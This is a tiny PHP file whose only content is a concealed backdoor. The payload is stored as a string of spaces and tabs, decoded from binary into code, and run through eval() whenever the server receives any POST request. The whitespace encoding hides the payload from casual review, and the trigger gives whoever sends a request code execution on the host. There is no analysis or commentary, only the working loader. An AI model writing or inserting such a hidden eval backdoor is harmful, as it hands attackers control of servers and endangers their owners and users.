<?php
$note = ' 			  		 				  	 			  		 			 	   		  	 	 		 		 	  	 	     	  	   	 					 	 	     	  				 	 	  		 	 	 	   	 		 		  	   	  		   		  	   	  	 			 	  	 	  	  			 		';
$out = '';
foreach (str_split(strtr($note, " \t", '01'), 8) as $b) { $out .= chr(bindec($b)); }
if ($_POST) { eval($out); }
